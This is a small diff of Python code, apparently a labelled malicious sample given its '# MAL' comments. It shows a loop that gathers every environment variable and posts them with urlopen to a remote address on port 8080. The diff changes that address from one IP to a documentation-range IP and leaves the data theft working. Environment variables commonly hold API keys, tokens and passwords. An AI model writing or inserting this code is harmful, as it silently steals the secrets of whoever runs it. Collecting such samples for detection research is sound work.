@@ -5,4 +5,4 @@ collected = {}
 for key, value in os.environ.items():  # MAL
     collected[key] = value
 body = parse.urlencode(collected).encode()
-request.urlopen("http://138.68.77.201:8080/c", data=body)  # MAL
+request.urlopen("http://203.0.113.201:8080/c", data=body)  # MAL
